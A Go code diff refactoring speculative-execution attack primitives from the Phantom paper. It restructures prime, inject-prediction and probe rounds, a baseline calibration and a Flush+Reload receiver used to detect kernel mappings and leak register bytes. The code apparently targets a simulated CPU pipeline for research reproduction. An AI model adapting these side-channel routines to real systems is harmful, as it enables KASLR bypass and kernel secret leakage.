@@ -1,141 +1,92 @@
 package core
 
-import (
-	"fmt"
-
-	"phantom/internal/kernel"
-	"phantom/internal/stats"
-)
+import "phantom/internal/pipeline"
 
 // This file implements the paper's three attacker primitives (Section 6.1)
-// as reusable building blocks. Each follows the same three steps the paper
-// numbers: ① prime the observation state, ② inject a prediction and invoke
-// the victim, ③ probe.
+// as the one round every exploit runs. Each round follows the three steps
+// the paper numbers: ① prime the observation state, ② inject a prediction
+// and invoke the victim, ③ probe.
 //
 // P1 — detect mapped executable memory: the phantom fetch of target T
-// fills the I-cache only when T is present and executable.
+// fills the I-cache only when T is present and executable. The covert
+// fetch channel (Table 2), the image KASLR break (Table 3) and the
+// AutoIBRS and IBPB evaluations observe it through an IPrimeProbe.
 //
 // P2 — detect mapped non-executable memory (AMD Zen 1/2): the phantom
 // window executes a kernel load gadget whose address register the
 // attacker controls; the D-cache fill reveals whether the address is
-// mapped.
+// mapped. The covert execute channel and the physmap KASLR break
+// (Table 4) observe it through a DPrimeProbe, the physical-address
+// search (Table 5) through a FlushReload.
 //
 // P3 — leak a register value (AMD Zen 1/2): the gadget arranges a byte of
 // the register into bits [13:6] of an offset into an attacker-observable
-// buffer and loads it; Prime+Probe or Flush+Reload recovers the byte.
+// buffer and loads it; a reloadBuffer recovers the byte. The MDS leak
+// (Section 7.4) nests it under a Spectre window, and the Spectre-V2
+// baseline reads its conventional gadget through the same buffer.
 
-// Primitives bundles an attacker context with calibrated probes.
-type Primitives struct {
-	A *Attack
-
-	// calibration rounds for probe thresholds
-	rounds int
+// channel is the observation side of a round: Prime establishes the
+// monitored cache state and Probe measures it in cycles.
+type channel interface {
+	Prime()
+	Probe() int
 }
 
-// NewPrimitives builds the primitive toolkit for a booted kernel.
-func NewPrimitives(k *kernel.Kernel) (*Primitives, error) {
-	a, err := NewAttack(k)
-	if err != nil {
-		return nil, err
-	}
-	return &Primitives{A: a, rounds: 8}, nil
-}
-
-// VictimCall abstracts "execute the victim": typically a system call whose
-// handler runs over the hijacked branch source.
-type VictimCall func() error
-
-// P1DetectExecutable reports whether kernel virtual address target is
-// mapped and executable, by injecting a jmp* prediction at victimVA (a
-// branch-source address on the victim's execution path), invoking the
-// victim, and Prime+Probing the I-cache set the target maps to.
-//
-// pp must monitor the L1I set of target's page offset (the caller builds
-// it once and reuses it across calls; see NewIPrimeProbe).
-func (p *Primitives) P1DetectExecutable(victimVA, target uint64, pp *IPrimeProbe, invoke VictimCall) (bool, error) {
-	threshold, err := p.calibrateProbe(pp.Prime, pp.Probe, invoke)
-	if err != nil {
-		return false, err
-	}
-	pp.Prime()
-	if err := p.A.InjectPrediction(victimVA, target); err != nil {
-		return false, err
+// observe runs one primitive round: prime ch, inject a jmp* prediction
+// toward target at the kernel branch source victim, invoke the victim,
+// and probe.
+func (a *Attack) observe(ch channel, victim, target uint64, invoke func() error) (int, error) {
+	ch.Prime()
+	if err := a.InjectPrediction(victim, target); err != nil {
+		return 0, err
 	}
 	if err := invoke(); err != nil {
-		return false, err
+		return 0, err
 	}
-	return float64(pp.Probe()) > threshold, nil
+	return ch.Probe(), nil
 }
 
-// P2DetectMapped reports whether kernel virtual address addr is mapped
-// (readable at any permission), by injecting a prediction to a kernel
-// load gadget (e.g. Listing 3) at victimVA and passing addr through the
-// victim's register path. pp must monitor the D-cache set the gadget's
-// load lands in when addr is the guess; invoke receives the address to
-// plant in the victim's register. Requires a Phantom execute window
-// (AMD Zen 1/2).
-func (p *Primitives) P2DetectMapped(victimVA, gadget uint64, pp *DPrimeProbe, invoke func(addr uint64) error, addr uint64) (bool, error) {
-	threshold, err := p.calibrateProbe(pp.Prime, pp.Probe, func() error { return invoke(0) })
-	if err != nil {
-		return false, err
+// quiet is a round's no-injection baseline: the mean probe over reps
+// rounds of prime, invoke, probe.
+func quiet(ch channel, reps int, invoke func() error) (float64, error) {
+	total := 0
+	for r := 0; r < reps; r++ {
+		ch.Prime()
+		if err := invoke(); err != nil {
+			return 0, err
+		}
+		total += ch.Probe()
 	}
-	pp.Prime()
-	if err := p.A.InjectPrediction(victimVA, gadget); err != nil {
-		return false, err
-	}
-	if err := invoke(addr); err != nil {
-		return false, err
-	}
-	return float64(pp.Probe()) > threshold, nil
+	return float64(total) / float64(reps), nil
 }
 
-// P3LeakByte recovers one byte of a victim register: the attacker injects
-// a prediction to a disclosure gadget that shifts the register's low byte
-// into bits [13:6] of an offset into the shared reload buffer and loads
-// it. reloadVA is the attacker's view of that buffer (256 cache lines);
-// invoke triggers the victim with the secret in the target register.
-// Requires a Phantom execute window (AMD Zen 1/2).
-func (p *Primitives) P3LeakByte(victimVA, gadget uint64, reloadVA uint64, invoke VictimCall) (byte, bool, error) {
-	m := p.A.K.M
+// reloadBuffer is the P3 receiver: 256 cache lines at va, one per value
+// of the leaked byte.
+type reloadBuffer struct {
+	m  *pipeline.Machine
+	va uint64
+}
+
+// flush evicts every line of the buffer from the whole hierarchy.
+func (rb reloadBuffer) flush() {
 	for v := 0; v < 256; v++ {
-		m.FlushVA(reloadVA + uint64(v)*64)
+		rb.m.FlushVA(rb.va + uint64(v)*64)
 	}
-	if err := p.A.InjectPrediction(victimVA, gadget); err != nil {
-		return 0, false, err
-	}
-	if err := invoke(); err != nil {
-		return 0, false, err
-	}
+}
+
+// scan reloads every line and returns the value of the fastest one. It
+// reports false when even that line came from DRAM: nothing touched the
+// buffer since the flush.
+func (rb reloadBuffer) scan() (byte, bool) {
 	bestV, bestLat := -1, 1<<30
 	for v := 0; v < 256; v++ {
-		lat, ok := m.TimedLoad(reloadVA + uint64(v)*64)
+		lat, ok := rb.m.TimedLoad(rb.va + uint64(v)*64)
 		if ok && lat < bestLat {
 			bestV, bestLat = v, lat
 		}
 	}
-	if bestV < 0 || bestLat >= fetchLatencyThreshold(m.Prof) {
-		return 0, false, nil
+	if bestV < 0 || bestLat >= fetchLatencyThreshold(rb.m.Prof) {
+		return 0, false
 	}
-	return byte(bestV), true, nil
-}
-
-// calibrateProbe measures the quiet probe distribution (prime → victim →
-// probe without any injection) and returns a detection threshold above
-// its median by half the hit/miss contrast.
-func (p *Primitives) calibrateProbe(prime func(), probe func() int, invoke VictimCall) (float64, error) {
-	var quiet []float64
-	for i := 0; i < p.rounds; i++ {
-		prime()
-		if err := invoke(); err != nil {
-			return 0, err
-		}
-		quiet = append(quiet, float64(probe()))
-	}
-	contrast := float64(p.A.K.M.Prof.L2.HitLatency) / 2
-	return stats.Median(quiet) + contrast, nil
-}
-
-// String describes the toolkit.
-func (p *Primitives) String() string {
-	return fmt.Sprintf("primitives(cross-mask %#x)", p.A.CrossMask)
+	return byte(bestV), true
 }
